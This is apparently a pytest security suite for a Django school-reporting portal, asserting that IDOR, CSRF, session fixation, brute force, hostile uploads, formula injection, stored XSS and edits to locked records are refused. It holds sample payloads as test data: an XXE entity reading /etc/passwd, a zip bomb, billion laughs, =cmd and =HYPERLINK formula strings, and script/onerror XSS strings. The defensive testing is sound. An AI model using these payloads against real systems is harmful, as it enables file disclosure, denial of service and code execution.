"""The attack suite: each attempt must be refused.

IDOR (another school's data through ids in URLs and forms), CSRF, session fixation, login brute
force, hostile uploads (zip bomb, XXE, billion laughs, macros, a huge file, another school's
workbook), formula injection in every export, stored XSS through a school name or a note, and a
locked submission changed through the API or the admin.
"""

import io
import json
import zipfile

import pytest
from django.test import Client
from helpers import CITY, COUNTY_A, SCHOOL_A, SCHOOL_B, SCHOOL_C, figures_2020, login, setup_portal

pytestmark = pytest.mark.django_db


def _sub(school):
    from nianbao.web import services
    from nianbao.web.models import Org

    return services.submission_for(Org.objects.get(pk=school), services.current_task())


# -- IDOR -------------------------------------------------------------------------------------

def test_idor_a_school_cannot_read_or_write_another_schools_submission(client):
    setup_portal()
    other = _sub(SCHOOL_B)
    login(client, "school_a")
    for url in (f"/s/{other.pk}/", f"/s/{other.pk}/review/", f"/s/{other.pk}/workbook.xlsx",
                f"/s/{other.pk}/audit.xlsx", f"/s/{other.pk}/history/students/", f"/api/submissions/{other.pk}/values"):
        assert client.get(url).status_code == 404, url
    for url, data in ((f"/s/{other.pk}/sheet/scale/", {"v:students": "1"}), (f"/s/{other.pk}/submit/", {}),
                      (f"/s/{other.pk}/upload/", {}), (f"/s/{other.pk}/act/county_accept/", {})):
        assert client.post(url, data).status_code == 404, url
    r = client.put(f"/api/submissions/{other.pk}/values", json.dumps({"values": {"students": "1"}}),
                   content_type="application/json")
    assert r.status_code == 404
    assert not other.values.exists()
    # the county and city pages of the school's own county are not for a clerk either
    assert client.get(f"/county/{COUNTY_A}/").status_code == 404
    assert client.get(f"/city/{CITY}/").status_code == 404
    assert client.get(f"/org/{CITY}/audit.xlsx").status_code == 404


def test_idor_form_fields_of_another_sheet_or_unknown_codes_are_ignored(client):
    setup_portal()
    login(client, "school_a")
    own = _sub(SCHOOL_A)
    client.post(f"/s/{own.pk}/sheet/scale/", {"v:students": "452", "v:submission": "99", "v:org": SCHOOL_B,
                                             "v:land_area": "5"})
    assert set(own.values.values_list("code", flat=True)) == {"students"}


def test_idor_a_county_sees_only_its_schools(client):
    setup_portal()
    other_county_school = _sub(SCHOOL_C)
    login(client, "county_a")
    assert client.get(f"/s/{other_county_school.pk}/review/").status_code == 404
    assert client.post(f"/s/{other_county_school.pk}/act/county_accept/").status_code == 404
    assert client.get(f"/county/{COUNTY_A}/").status_code == 200
    assert client.get("/county/140214/").status_code == 404
    assert client.get(f"/org/{SCHOOL_C}/school/").status_code == 404
    # a county reviewer may read its school but not type into it
    own = _sub(SCHOOL_A)
    assert client.post(f"/s/{own.pk}/sheet/scale/", {"v:students": "1"}).status_code == 403


def test_idor_a_province_reads_but_cannot_act(client):
    setup_portal()
    sub = _sub(SCHOOL_A)
    login(client, "province")
    assert client.get(f"/city/{CITY}/").status_code == 200
    assert client.post(f"/city/{CITY}/report/").status_code == 404
    assert client.post(f"/s/{sub.pk}/act/city_approve/").status_code == 403
    assert client.post(f"/s/{sub.pk}/sheet/scale/", {"v:students": "1"}).status_code == 403


# -- CSRF, sessions, brute force ------------------------------------------------------------------

def test_csrf_a_post_without_the_token_is_refused():
    setup_portal()
    sub = _sub(SCHOOL_A)
    c = Client(enforce_csrf_checks=True)
    login(c, "school_a")
    assert c.post(f"/s/{sub.pk}/sheet/scale/", {"v:students": "1"}).status_code == 403
    assert c.put(f"/api/submissions/{sub.pk}/values", json.dumps({"values": {"students": "1"}}),
                 content_type="application/json").status_code == 403
    assert not sub.values.exists()
    assert c.post("/logout/").status_code == 403


def test_session_fixation_the_session_key_changes_at_login():
    setup_portal()
    c = Client()
    c.get("/login/")
    c.cookies["sessionid"] = "attackerchosenkey0000000000000000"
    session = c.session
    session["planted"] = "x"
    session.save()
    before = session.session_key
    r = c.post("/login/", {"username": "school_a", "password": "correct-horse-9"})
    assert r.status_code == 302
    after = c.cookies["sessionid"].value
    assert after != before and after != "attackerchosenkey0000000000000000"
    assert c.get("/").status_code == 302  # signed in under the new key
    # the cookie cannot be read by scripts
    assert c.cookies["sessionid"]["httponly"]


def test_login_brute_force_is_throttled():
    setup_portal()
    c = Client()
    codes = [c.post("/login/", {"username": "school_a", "password": f"guess{i}"}).status_code for i in range(6)]
    assert codes[:5] == [200] * 5 and codes[5] == 429
    # the right password is refused too while throttled
    assert c.post("/login/", {"username": "school_a", "password": "correct-horse-9"}).status_code == 429


# -- hostile uploads --------------------------------------------------------------------------------

def _upload(client, sub, data: bytes, name="学校.xlsx"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(f"/s/{sub.pk}/upload/", {"workbook": SimpleUploadedFile(name, data)})


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for k, v in parts.items():
            z.writestr(k, v)
    return out.getvalue()


CT = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'


@pytest.mark.parametrize("kind,payload,code", [
    ("zip bomb", lambda: _zip({"[Content_Types].xml": CT, "xl/worksheets/sheet1.xml": b"0" * (80 * 2 ** 20)}),
     "upload.zip_bomb"),
    ("XXE", lambda: _zip({"[Content_Types].xml": CT, "xl/workbook.xml":
                          b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
     "upload.xml_entities"),
    ("billion laughs", lambda: _zip({"[Content_Types].xml": CT, "xl/sharedStrings.xml":
                                     b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;'
                                     b'&a;&a;&a;&a;&a;&a;">]><sst>&b;</sst>'}), "upload.xml_entities"),
    ("macro", lambda: _zip({"[Content_Types].xml": CT.replace(b"</Types>", b'<Override ContentType="application/'
                                                                        b'vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
                                                                        b"</Types>"),
                            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "upload.macro"),
    ("huge file", lambda: b"PK" + b"\0" * (11 * 2 ** 20), "upload.too_large"),
    ("not a workbook", lambda: b"<html><script>alert(1)</script></html>", "upload.not_xlsx"),
])
def test_hostile_uploads_are_refused_and_store_nothing(client, kind, payload, code):
    from nianbao.core.messages import catalogue
    from nianbao.web.models import Upload

    setup_portal()
    sub = _sub(SCHOOL_A)
    login(client, "school_a")
    r = _upload(client, sub, payload())
    assert r.status_code == 422, kind
    assert catalogue()[code]["zh"].split("{")[0][:6] in r.content.decode(), kind
    assert Upload.objects.get().status == "rejected"
    assert not sub.values.exists()
    from nianbao.store import Store, locate
    from nianbao.web import services

    with Store(locate(services.dataset().path)) as store:
        assert not [r for org, r in store.observations() if org == SCHOOL_A]


def test_a_workbook_of_another_school_is_refused(client, tmp_path):
    from nianbao.app import submissions
    from nianbao.web import services

    setup_portal()
    sub = _sub(SCHOOL_A)
    other = submissions.filled_workbook(services.dataset(), SCHOOL_B, 2020, figures_2020(SCHOOL_B))
    login(client, "school_a")
    r = _upload(client, sub, other)
    assert r.status_code == 422
    assert "本账号只能提交学校 0140213012 的数据" in r.content.decode()
    assert not sub.values.exists()


# -- formula injection in every export ----------------------------------------------------------------

def _formula_cells(data: bytes) -> list[str]:
    """Cells of an .xlsx holding a formula (an <f> element) whose text came from a user."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                xml = z.read(n).decode("utf-8")
                if "HYPERLINK" in xml or "cmd|" in xml:
                    found += [n for f in xml.split("<f>")[1:] if "HYPERLINK" in f or "cmd|" in f]
    return found


def test_formula_injection_comes_out_as_text_in_every_export(client):
    from openpyxl import load_workbook

    from nianbao.web.models import Org

    setup_portal()
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    Org.objects.filter(pk=SCHOOL_A).update(zh=evil)
    sub = _sub(SCHOOL_A)
    login(client, "school_a")
    client.post(f"/s/{sub.pk}/sheet/scale/", {"v:students": "=cmd|' /C calc'!A0", "v:entrants": "+1+1",
                                             "v:graduates": "@SUM(1)"}, HTTP_HX_REQUEST="true")
    client.post(f"/s/{sub.pk}/sheet/info/", {"v:info:filled_by": "-2+3", "v:info:phone": evil})
    client.post(f"/s/{sub.pk}/submit/", {"note": evil})
    exports = {"workbook": client.get(f"/s/{sub.pk}/workbook.xlsx").content,
               "audit": client.get(f"/s/{sub.pk}/audit.xlsx").content}
    client.logout()
    login(client, "city")
    exports["city audit"] = client.get(f"/org/{CITY}/audit.xlsx").content
    for name, data in exports.items():
        assert data[:2] == b"PK", name
        assert _formula_cells(data) == [], name
        wb = load_workbook(io.BytesIO(data))
        typed = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value.startswith(("=cmd", "+1+1", "@SUM", "-2+3", "=HYPERLINK"))]
        assert typed, name  # the texts are there, as text
    # nor was anything typed as a formula stored as a figure
    from nianbao.store import Store, locate
    from nianbao.web import services

    with Store(locate(services.dataset().path)) as store:
        stored = {r.element for org, r in store.observations() if org == SCHOOL_A}
    assert not stored & {"students", "entrants", "graduates"}


# -- stored XSS -----------------------------------------------------------------------------------

def test_stored_xss_through_a_school_name_or_a_note_is_escaped(client):
    from nianbao.web.models import Org

    setup_portal()
    payload = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    Org.objects.filter(pk=SCHOOL_A).update(zh=payload)
    sub = _sub(SCHOOL_A)
    login(client, "school_a")
    client.post(f"/s/{sub.pk}/sheet/scale/", {"v:students": payload}, HTTP_HX_REQUEST="true")
    client.post(f"/s/{sub.pk}/submit/", {"note": payload})
    pages = [client.get(f"/s/{sub.pk}/").content.decode()]
    client.logout()
    login(client, "county_a")
    pages += [client.get(f"/county/{COUNTY_A}/").content.decode(), client.get(f"/s/{sub.pk}/review/").content.decode()]
    for page in pages:
        assert "<script>alert" not in page and "<img src=x" not in page
        assert "&lt;script&gt;" in page
    # and the pages forbid inline scripts even if one slipped through
    r = client.get(f"/county/{COUNTY_A}/")
    assert "script-src 'self'" in r["Content-Security-Policy"]


# -- locked submissions through the API and the admin ------------------------------------------------

def _approved(p):
    """School A's 2020 figures, submitted with a note, accepted by the county, approved by the city."""
    from nianbao.web import services
    from nianbao.web.models import Submission

    sub = _sub(SCHOOL_A)
    services.save_form(sub, p.users["school_a"], figures_2020(SCHOOL_A), note="在校生数变化因转学")
    for name, role, user in (("submit", "school", "school_a"), ("county_accept", "county", "county_a"),
                             ("city_approve", "city", "city")):
        services.transition(Submission.objects.get(pk=sub.pk), p.users[user], name, role)
    return Submission.objects.get(pk=sub.pk)


def test_a_locked_submission_cannot_be_changed_through_the_api(client):
    from nianbao.web.models import State

    p = setup_portal()
    sub = _approved(p)
    assert sub.state == State.CITY_APPROVED
    login(client, "school_a")
    r = client.put(f"/api/submissions/{sub.pk}/values", json.dumps({"values": {"students": "1"}}),
                   content_type="application/json")
    assert r.status_code == 409
    assert sub.values.get(code="students").text == "452"
    got = client.get(f"/api/submissions/{sub.pk}/values").json()
    assert got["state"] == "city_approved" and got["locked"]


def test_a_locked_submission_cannot_be_changed_through_the_admin_or_the_orm(client):
    from django.contrib.auth import get_user_model
    from django_fsm import TransitionNotAllowed  # noqa: F401

    from nianbao.web.models import FieldValue, LockedError, State, Submission

    p = setup_portal()
    sub = _approved(p)
    admin = get_user_model().objects.create_superuser("root", password="correct-horse-9")
    client.force_login(admin)
    fv = sub.values.get(code="students")
    r = client.post(f"/admin/web/fieldvalue/{fv.pk}/change/", {"submission": sub.pk, "code": "students", "text": "1"})
    assert r.status_code == 403
    r = client.post(f"/admin/web/submission/{sub.pk}/change/", {"state": State.DRAFT, "note": "x"})
    assert r.status_code == 403
    assert FieldValue.objects.get(pk=fv.pk).text == "452"
    assert Submission.objects.get(pk=sub.pk).state == State.CITY_APPROVED
    # nor through the models: the value refuses to save, the state refuses to be assigned
    fv.text = "1"
    with pytest.raises(LockedError):
        fv.save()
    s = Submission.objects.get(pk=sub.pk)
    with pytest.raises(AttributeError):
        s.state = State.DRAFT


def test_a_registry_name_that_looks_like_a_formula_is_text_in_the_downloaded_workbook(tmp_path):
    import shutil

    from servers import EXAMPLE

    from nianbao.app import submissions

    ds_dir = tmp_path / "ds"
    shutil.copytree(EXAMPLE, ds_dir, ignore=shutil.ignore_patterns("nianbao.duckdb", "portal"))
    orgs = ds_dir / "orgs.csv"
    text = orgs.read_text(encoding="utf-8").splitlines()
    text = [ln.replace(ln.split(",")[1], '"=HYPERLINK(""http://example.invalid"",""x"")"', 1)
            if ln.startswith(SCHOOL_A + ",") else ln for ln in text]
    orgs.write_text("\n".join(text) + "\n", encoding="utf-8")
    ds = submissions.open_dataset(ds_dir)
    assert ds.orgs.get(SCHOOL_A).zh.startswith("=HYPERLINK")
    data = submissions.blank_workbook(ds, SCHOOL_A, 2020)
    assert _formula_cells(data) == []


def test_idor_another_schools_annotated_copy_is_not_served(client):
    setup_portal()
    own, other = _sub(SCHOOL_A), _sub(SCHOOL_B)
    login(client, "school_b")
    assert _upload(client, other, b"not a workbook at all").status_code == 422
    from nianbao.web.models import Upload

    up = Upload.objects.get(submission=other)
    client.logout()
    login(client, "school_a")
    assert client.get(f"/s/{other.pk}/uploads/{up.pk}/annotated.xlsx").status_code == 404
    assert client.get(f"/s/{own.pk}/uploads/{up.pk}/annotated.xlsx").status_code == 404


# -- the upload limits come from the settings registry -----------------------------------------------

def test_the_upload_limits_are_the_settings_registrys(monkeypatch):
    from nianbao.app import submissions
    from nianbao.core import settings
    from nianbao.web import services

    setup_portal()
    good = submissions.filled_workbook(services.dataset(), SCHOOL_A, 2020, figures_2020(SCHOOL_A))
    assert submissions.inspect_upload(good) == []
    # the default: NIANBAO_MAX_UPLOAD_MB's 10 MB, one byte more is too large
    assert submissions.max_upload() == settings.SETTINGS["max_upload_mb"].default * 2 ** 20
    assert [f.code for f in submissions.inspect_upload(b"PK" + b"\0" * (submissions.max_upload() - 1))] == [
        "upload.too_large"]
    with zipfile.ZipFile(io.BytesIO(good)) as z:
        unpacked = sum(i.file_size for i in z.infolist())
    # set below the genuine workbook's own size and unpacked total, each refuses it
    monkeypatch.setenv("NIANBAO_MAX_UPLOAD_MB", str(len(good) / 2 ** 20 / 2))
    (f,) = submissions.inspect_upload(good)
    assert f.code == "upload.too_large" and f.values["limit_mb"] == round(len(good) / 2 ** 20 / 2, 2)
    monkeypatch.delenv("NIANBAO_MAX_UPLOAD_MB")
    monkeypatch.setenv("NIANBAO_MAX_UPLOAD_UNZIPPED_MB", str(unpacked / 2 ** 20 / 2))
    assert [f.code for f in submissions.inspect_upload(good)] == ["upload.zip_bomb"]
    monkeypatch.delenv("NIANBAO_MAX_UPLOAD_UNZIPPED_MB")
    with zipfile.ZipFile(io.BytesIO(good)) as z:
        parts = len(z.infolist())
    monkeypatch.setenv("NIANBAO_MAX_ZIP_PARTS", str(parts - 1))  # the registry's limit of every package
    assert [f.code for f in submissions.inspect_upload(good)] == ["upload.zip_bomb"]


def test_the_upload_view_refuses_by_the_registrys_size(client, monkeypatch):
    from nianbao.app import submissions
    from nianbao.web import services
    from nianbao.web.models import Upload

    setup_portal()
    sub = _sub(SCHOOL_A)
    good = submissions.filled_workbook(services.dataset(), SCHOOL_A, 2020, figures_2020(SCHOOL_A))
    monkeypatch.setenv("NIANBAO_MAX_UPLOAD_MB", str(len(good) / 2 ** 20 / 2))
    login(client, "school_a")
    r = _upload(client, sub, good)
    assert r.status_code == 422
    assert Upload.objects.get().status == "rejected" and not sub.values.exists()
    assert "超过上限" in r.content.decode()


def test_an_upload_whose_annotated_copy_cannot_be_made_is_still_refused_with_its_findings(monkeypatch):
    # the portal called the annotated copy's writer unguarded: whatever it could not write back
    # ended the request with an internal error
    from nianbao.app import submissions
    from nianbao.ingest import workbook
    from nianbao.web import services

    setup_portal()
    figures = dict(figures_2020(SCHOOL_A))
    figures["students"] = "-5"  # an error: the workbook is refused and would get its copy
    bad = submissions.filled_workbook(services.dataset(), SCHOOL_A, 2020, figures)

    def broken(*a, **kw):
        raise AttributeError("'MergedCell' object attribute 'comment' is read-only")
    monkeypatch.setattr(workbook, "annotate", broken)
    up = submissions.import_upload(services.dataset(), SCHOOL_A, 2020, bad, "学校.xlsx")
    assert up.status == "rejected" and up.annotated is None
    codes = [f.code for f in up.findings]
    assert "import.annotated_failed" in codes and any(f.severity == "error" for f in up.findings)
